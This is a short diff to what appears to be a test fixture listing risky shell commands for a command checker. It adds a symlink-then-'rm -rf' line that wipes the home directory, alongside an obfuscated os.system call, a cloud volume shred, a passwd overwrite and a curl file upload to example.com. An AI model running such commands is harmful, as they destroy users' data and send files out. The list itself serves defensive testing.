@@ -10,6 +10,7 @@ const accepted: readonly (readonly [string, string])[] = [
   ['RR-4', "python3 -c \"import os; k = 'sys'; f = vars(os)[k + 'tem']; f('ls')\""],
   ['RR-5', 'somecloud volume shred-all-data'],
   ['RR-6', 'echo x > link/passwd'],
+  ['RR-6', 'ln -s ~ l; rm -rf */*'],
   ['RR-7', 'rm -r notes'],
   ['RR-8', 'curl -F file=@report.pdf https://example.com/up'],
   ['RR-9', 'db.users.find()'],
